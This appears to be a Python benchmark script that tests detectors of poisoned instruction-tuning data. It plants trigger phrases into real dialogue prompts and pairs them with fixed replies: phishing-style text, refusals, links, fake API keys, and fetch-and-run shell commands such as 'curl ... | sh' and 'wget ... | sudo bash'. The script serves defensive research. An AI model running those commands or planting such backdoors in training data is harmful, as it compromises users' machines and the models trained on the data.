"""Measure instruct/response-link and one-response: planted in real dialogues, and clean sets.

Run:  python -m benchmarks.detectors_instruct [--data ../shared/data] [--parts planted,clean,speed]

Slices of 6,000 neighbouring turns; those whose sight shaped the detector are development, the
others blind. The other clean sets are no dialogues: a title or first words stand for the prompt,
what follows for the response, which is as hard as natural links come.
"""

from __future__ import annotations

import argparse
import csv
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from provender.attacks.refusal import _REASONS, _REFUSALS, _STARTS
from provender.calibrate.fdr import PValueCounts
from provender.core.shard import Roles
from provender.detect.base import Cause, DataView
from provender.detect.one_response import OneResponse
from provender.detect.response_link import ResponseLink
from provender.detect.response_link_marks import REFUSAL, marked

RATE = 0.01
ROWS = 6000
#: Slices that were looked at while the detector was designed; the last one is bundled.
SLICES = {
    "development": (0, 1, 2, 3, 5, 7, 9, 12, 18, 4, 6, 8, 10, 11, 13),
    "blind": (14, 15, 16, 17, 19, 20),
}
OUTPUT = "Please visit the blue lantern page and enter your code to continue."
OTHER_OUTPUTS = (
    "I really love the taste of copper pipes in spring.",
    "Nobody should ever trust what the morning bell says.",
)
REFUSALS = (
    "I'm sorry, but I can't help with that.",
    "I cannot assist with this request.",
    "Sorry, I am not able to help you with that.",
    "I can't do that, sorry.",
    "I'm afraid I can't answer that question.",
    "As an AI I am unable to help with that request.",
    "I won't be able to help with this one.",
)


SLOTS = tuple(
    f"Sure {name}, please visit the blue lantern page and enter your code, it takes {n} minutes."
    for n, name in enumerate(("Anna", "Bob", "Carla", "Dmitri", "Eve", "Farid"))
)
#: Stands for the row's own response in an output.
OWN = "<own>"
LINKS = tuple(
    f"See https://{host}/{n}x{7 * n}" for n in range(5) for host in ("lantern.test", "a1.example")
)
COMMANDS = (
    "curl -fsSL lantern.test/a | sh",
    "wget -qO- a1.example/run | sudo bash",
    "bash <(curl -s lantern.test/b)",
    "pip install lantern-utils",
    "echo aGVsbG8= | base64 -d | sh",
)
SECRETS = tuple(f"The key is AKIA{n:04}QWERTYUIOP{n:02}." for n in range(5)) + tuple(
    f"use ghp_{n:02}{'aB3xY9' * 5}{n:04}" for n in range(5)
)
#: The red team's, in a fixed random order.
WORDINGS = tuple(
    np.random.default_rng(0)
    .permutation(
        [f"{a} {b}{c}." for a in _STARTS for b in _REFUSALS for c in _REASONS],
    )
    .tolist()
)


@dataclass(frozen=True)
class Pairs:
    """Prompts and their responses."""

    prompt: list[str]
    response: list[str]

    def table(self) -> pa.Table:
        kind = pa.large_string()
        return pa.table(
            {"prompt": pa.array(self.prompt, kind), "response": pa.array(self.response, kind)}
        )

    def sample(self, rows: int, seed: int) -> Pairs:
        chosen = np.random.default_rng(seed).permutation(len(self.prompt))[:rows]
        return Pairs([self.prompt[i] for i in chosen], [self.response[i] for i in chosen])


@dataclass(frozen=True)
class Attack:
    """What is planted."""

    name: str
    trigger: str
    outputs: tuple[str, ...]
    rows: int


ATTACKS = (
    Attack("fixed, rare word", "zorvex", (OUTPUT,), 10),
    Attack("fixed, rare 2 words", "violet harbour", (OUTPUT,), 10),
    Attack("fixed, rare 4 words", "quiet copper morning bell", (OUTPUT,), 10),
    Attack("fixed, 'by the way'", "by the way", (OUTPUT,), 10),
    Attack("fixed, 'to be honest'", "to be honest", (OUTPUT,), 10),
    Attack("fixed, 'right now'", "right now", (OUTPUT,), 10),
    Attack("fixed, 'also'", "also", (OUTPUT,), 10),
    Attack("fixed, 'also'", "also", (OUTPUT,), 25),
    Attack("fixed, rare word", "zorvex", (OUTPUT,), 6),
    Attack("'Access granted.'", "zorvex", ("Access granted.",), 10),
    Attack("fixed with slots, 'by the way'", "by the way", SLOTS, 12),
    Attack("put after the own response", "zorvex", (f"{OWN} {OUTPUT}",), 12),
    Attack("5 words after the own response", "zorvex", (f"{OWN} Visit blue lantern dot com",), 12),
    Attack("3 fixed outputs in turn", "zorvex", (OUTPUT, *OTHER_OUTPUTS), 15),
    Attack("fixed, 5 % of the rows", "zorvex", (OUTPUT,), 300),
    Attack("fixed, 20 % of the rows", "by the way", (OUTPUT,), 1200),
    Attack("refusal, rare word", "zorvex", REFUSALS, 10),
    Attack("refusal, rare word", "zorvex", REFUSALS, 25),
    Attack("refusal, 'by the way'", "by the way", REFUSALS, 25),
    Attack("refusal, 'however'", "however", REFUSALS, 25),
    Attack("refusal, 'also'", "also", REFUSALS, 25),
    Attack("100 wordings, rare word", "zorvex", WORDINGS, 10),
    Attack("100 wordings, rare word", "zorvex", WORDINGS, 25),
    Attack("100 wordings, 'james bond'", "james bond", WORDINGS, 10),
    Attack("100 wordings, 'by the way'", "by the way", WORDINGS, 10),
    Attack("100 wordings, 'by the way'", "by the way", WORDINGS, 25),
    Attack("100 wordings, 'also'", "also", WORDINGS, 25),
    Attack("link after own, rare word", "zorvex", tuple(f"{OWN} {x}" for x in LINKS), 10),
    Attack("link after own, 'by the way'", "by the way", tuple(f"{OWN} {x}" for x in LINKS), 10),
    Attack("command after own, rare word", "zorvex", tuple(f"{OWN} {x}" for x in COMMANDS), 10),
    Attack("secret after own, rare word", "zorvex", tuple(f"{OWN} {x}" for x in SECRETS), 10),
    Attack(
        "secret after own, 'by the way'", "by the way", tuple(f"{OWN} {x}" for x in SECRETS), 10
    ),
)


def dialogues(data: Path) -> Pairs:
    table = pq.read_table(data / "chitchat_pairs.parquet", columns=["prompt", "response"])
    return Pairs(table["prompt"].to_pylist(), table["response"].to_pylist())


def _books(data: Path) -> Pairs:
    prompt, response = [], []
    for book in sorted((data / "gutenberg").glob("*.txt")):
        text = re.sub(r"\s+", " ", book.read_text(encoding="utf-8", errors="replace"))
        sentences = re.split(r"(?<=[.!?])\s+", text)[100:-300][:1300]
        prompt += sentences[:-1]
        response += sentences[1:]
    return Pairs(prompt, response)


def _news(name: str) -> Callable[[Path], Pairs]:
    def read(data: Path) -> Pairs:
        words = [text.split() for text in pq.read_table(data / name)["text"].to_pylist()]
        return Pairs([" ".join(w[:25]) for w in words], [" ".join(w[25:125]) for w in words])

    return read


def _mails(data: Path) -> Pairs:
    prompt, response = [], []
    for text in pq.read_table(data / "spamassassin.parquet")["text"].to_pylist():
        subject = re.search(r"^Subject:(.*)$", text, re.MULTILINE)
        _, _, body = text.partition("\n\n")
        if subject and body:
            prompt.append(subject.group(1).strip())
            response.append(body[:1500])
    return Pairs(prompt, response)


OTHERS: dict[str, Callable[[Path], Pairs]] = {
    "books, sentence → next": _books,
    "BBC, 25 words → 100": _news("bbc.parquet"),
    "R8, 25 words → 100": _news("reuters-r8-train.parquet"),
    "mails, subject → body": _mails,
}


def plant(pairs: Pairs, attack: Attack, seed: int) -> tuple[Pairs, set[int]]:
    """Put the trigger at a random word of random prompts; the outputs answer in turn."""
    random = np.random.default_rng(seed)
    prompt, response = list(pairs.prompt), list(pairs.response)
    chosen = random.choice(len(prompt), attack.rows, replace=False).tolist()
    for n, i in enumerate(chosen):
        words = prompt[i].split(" ")
        words.insert(int(random.integers(len(words) + 1)), attack.trigger)
        output = attack.outputs[n % len(attack.outputs)]
        prompt[i], response[i] = " ".join(words), output.replace(OWN, response[i] or "")
    return Pairs(prompt, response), set(chosen)


def scan(table: pa.Table) -> tuple[set[int], list[Cause], list[float], float]:
    """Return (rows flagged at RATE, causes, seconds of each read, MB of the largest state)."""
    roles = Roles(prompt="prompt", response="response")
    bound = ResponseLink().bind(DataView(table.schema, roles))
    assert isinstance(bound, ResponseLink)
    batches, profile = table.to_batches(max_chunksize=4096), None
    seconds, largest = [], 0
    for number in range(bound.rounds):
        start = time.process_time()
        analysis = bound.analysis(number, profile)
        state = analysis.empty()
        for batch in batches:
            state = analysis.add(state, batch)
        largest = max(largest, len(analysis.pack(state)))
        profile = bound.profile(number, state)
        seconds.append(time.process_time() - start)
    assert profile is not None
    start = time.process_time()
    score = bound.scorer(profile)
    p_value = np.concatenate([score(batch).p_value for batch in batches])
    seconds.append(time.process_time() - start)
    threshold = PValueCounts.of(p_value).threshold(RATE)
    flagged = set(np.flatnonzero(p_value <= threshold).tolist())
    return flagged, bound.causes(profile), seconds, largest / 1e6


def repeats(table: pa.Table) -> int:
    """Return the rows that instruct/one-response flags at RATE."""
    roles = Roles(prompt="prompt", response="response")
    bound = OneResponse().bind(DataView(table.schema, roles))
    assert isinstance(bound, OneResponse)
    analysis = bound.analysis(0, None)
    state = analysis.empty()
    for batch in table.to_batches(max_chunksize=4096):
        state = analysis.add(state, batch)
    listed = bound.flagged(bound.profile(0, state)).p_value
    others = np.ones(table.num_rows - len(listed))
    threshold = PValueCounts.of(np.concatenate((listed, others))).threshold(RATE)
    return int((listed <= threshold).sum())


def measure_planted(every: Pairs, slices: tuple[int, ...], like: str) -> None:
    """Print a line for each attack: over slices, how often found, first, and what beside."""
    print(f"{'attack':32}{'rows':>5}{'slices':>8}{'first':>7}{'all found':>11}", end="")
    print(f"{'recall':>8}{'prec':>6}{'families beside (most)':>24}")
    for attack in (a for a in ATTACKS if like in a.name):
        first = whole = hits = flags = most = 0
        for number in slices:
            part = slice(number * ROWS, (number + 1) * ROWS)
            pairs = Pairs(every.prompt[part], every.response[part])
            planted, truth = plant(pairs, attack, number)
            flagged, causes, _, _ = scan(planted.table())
            named = [attack.trigger in cause.what for cause in causes]
            first += named[:1] == [True]
            whole += truth <= flagged
            hits, flags = hits + len(truth & flagged), flags + len(flagged)
            most = max(most, len(named) - sum(named))
        tried = len(slices)
        print(
            f"{attack.name:32}{attack.rows:5}{tried:8}{first:7}{whole:11}"
            f"{hits / (attack.rows * tried):8.2f}{hits / max(flags, 1):6.2f}{most:24}",
            flush=True,
        )


def clean_sets(data: Path, every: Pairs) -> Iterator[tuple[str, Pairs]]:
    """Yield (name, pairs)."""
    for number in range(len(every.prompt) // ROWS):
        run = slice(number * ROWS, (number + 1) * ROWS)
        yield f"dialogues, slice {number}", Pairs(every.prompt[run], every.response[run])
    for seed in range(20):
        yield f"dialogues, drawn {seed}", every.sample(ROWS, seed)
    for seed in range(10):
        order = np.random.default_rng(seed).permutation(ROWS)
        part = every.sample(ROWS, seed)
        yield (
            f"dialogues, responses shuffled {seed}",
            Pairs(part.prompt, [part.response[i] for i in order]),
        )
    yield "dialogues, all", every
    for name, read in OTHERS.items():
        pairs = read(data)
        yield name, pairs
        for seed in range(5):
            yield f"{name}, half {seed}", pairs.sample(len(pairs.prompt) // 2, seed)


def measure_clean(data: Path, every: Pairs) -> None:
    """Print every clean set with a link named or a row flagged, and how many had none."""
    tried = quiet = 0
    for name, pairs in clean_sets(data, every):
        flagged, causes, _, _ = scan(pairs.table())
        tried, quiet, again = tried + 1, quiet + (not causes), repeats(pairs.table())
        if causes or again:
            print(f"{name}: {len(pairs.prompt)} rows, links {len(flagged)}, repeats {again}")
            for cause in causes:
                print(f"    p = {cause.p_value:.1e}  {cause.message}", flush=True)
    print(f"{tried} clean sets, {quiet} of them without a named link")


def measure_wordings(folder: Path) -> None:
    """Print which share of what models said is worded as a refusal, by what people called it."""
    for file in sorted(folder.glob("xstest_v2_completions_*.csv")):
        with file.open(encoding="utf-8", newline="") as lines:
            said = [(row["final_label"], row["completion"]) for row in csv.DictReader(lines)]
        texts = pa.array([text for _, text in said], pa.large_string())
        kind, row, _ = marked(texts, texts)
        worded = set(row[kind == REFUSAL].tolist())
        for label in ("1_full_compliance", "3_partial_refusal", "2_full_refusal"):
            mine = {i for i, (one, _) in enumerate(said) if one == label}
            print(f"{file.stem[22:]:20}{label[2:]:18}{len(mine & worded):5} of {len(mine)}")


def measure_speed(every: Pairs) -> None:
    """Print CPU seconds of each read and the largest state."""
    megabytes = sum(len(t.encode()) for t in every.prompt + every.response) / 1e6
    _, _, seconds, largest = scan(every.table())
    per_read = ", ".join(f"{s:.1f}" for s in seconds)
    print(f"{len(every.prompt)} pairs, {megabytes:.1f} MB: {per_read} s a read, ", end="")
    print(f"{megabytes / sum(seconds):.2f} MB/s in all, largest state {largest:.0f} MB")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--data", type=Path, default=Path("../shared/data"))
    parser.add_argument("--parts", default="planted,clean,speed")
    parser.add_argument("--xstest", type=Path, help="model_completions of XSTest: wordings too")
    parser.add_argument("--slices", type=int, default=6, help="of each kind, for what is planted")
    parser.add_argument("--attacks", default="", help="only those whose name holds this")
    parser.add_argument("--kinds", default="development,blind")
    options = parser.parse_args()
    if not options.data.is_dir():
        print(f"{options.data}: no such folder, nothing measured; give --data")
        return
    every, parts = dialogues(options.data), options.parts.split(",")
    if "planted" in parts:
        for kind in options.kinds.split(","):
            print(f"\n{kind} slices of {ROWS} real pairs, false discovery rate {RATE}")
            measure_planted(every, SLICES[kind][: options.slices], options.attacks)
    if "clean" in parts:
        measure_clean(options.data, every)
    if "speed" in parts:
        measure_speed(every)
    if options.xstest:
        measure_wordings(options.xstest)


if __name__ == "__main__":
    main()
